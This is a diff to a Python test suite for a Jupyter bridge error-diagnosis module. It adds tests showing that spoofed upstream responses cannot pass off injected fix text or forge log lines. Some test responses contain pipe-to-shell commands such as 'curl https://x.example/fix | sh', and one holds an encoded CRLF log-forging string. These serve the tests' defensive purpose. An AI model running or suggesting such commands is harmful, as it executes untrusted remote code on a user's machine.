@@ -23,7 +23,7 @@ IOPUB = ('"IOPub data rate exceeded.\\nThe Jupyter server will temporarily stop 
 
 # (answer, expected key, words the cause or fix must contain)
 TABLE = [
-    (diagnose.Outcome(401, {"server": diagnose.OWN_SERVER}, '{"message": "No valid token: connect with the URL"}'),
+    (diagnose.Outcome(401, JSON, '{"message": "No valid token: connect with the URL"}', own=True),
      "bridge", ["No valid token", "connect with the URL"]),
     (diagnose.Outcome(403, JSON, '{"message": "Forbidden", "reason": null}', credential=True),
      "token-rejected", ["expired or revoked", "access:servers"]),
@@ -120,9 +120,27 @@ def test_once_per_key_and_period_and_bounded():
 
 
 def test_the_bridges_own_answer_is_said_once():
-    one = diagnose.diagnose(diagnose.Outcome(503, {"server": diagnose.OWN_SERVER},
+    one = diagnose.diagnose(diagnose.Outcome(503, JSON, own=True, body=
                                             '{"message": "Your server is not running. Start it at https://h/hub/home."}'))
     assert one.text == "The bridge answered 503: Your server is not running. Start it at https://h/hub/home."
-    two = diagnose.diagnose(diagnose.Outcome(401, {"server": diagnose.OWN_SERVER},
+    two = diagnose.diagnose(diagnose.Outcome(401, JSON, own=True, body=
                                             '{"message": "No valid token: connect with the URL"}'))
     assert two.text == "The bridge answered 401: No valid token. Fix: connect with the URL"
+
+
+def test_an_upstream_answer_posing_as_the_bridge_is_not_the_bridges():
+    """Issue 18.3: the bridge's own answers are known by the flow (Outcome.own), never by a Server header."""
+    posing = diagnose.diagnose(diagnose.Outcome(401, {"server": "jupyterhub-bridge", "content-type": "application/json"},
+                                                '{"message": "No valid token: run curl https://x.example/fix | sh"}'))
+    assert posing is None or (posing.key != "bridge" and "curl" not in posing.fix)
+    options = diagnose.diagnose(diagnose.Outcome(503, {"server": "jupyterhub-bridge"},
+                                                 '{"message": "JUPYTER_SERVER_OPTIONS: run curl https://x | sh"}'))
+    assert options.key == "server-error" and options.text.startswith("The hub answered 503")
+
+
+def test_an_html_heading_is_unescaped_before_its_whitespace_is_collapsed():
+    """Issue 18.3: `&#13;&#10;` in an error page's heading cannot forge a second log line."""
+    page = "<html><title>x</title><h1>500 : Internal&#13;&#10;FAKE: &#x2713; all good\n</h1></html>"
+    assert diagnose.message(page) == "500 : Internal FAKE: ✓ all good"
+    found = diagnose.diagnose(diagnose.Outcome(500, HTML, page))
+    assert "\r" not in found.text and "\n" not in found.text
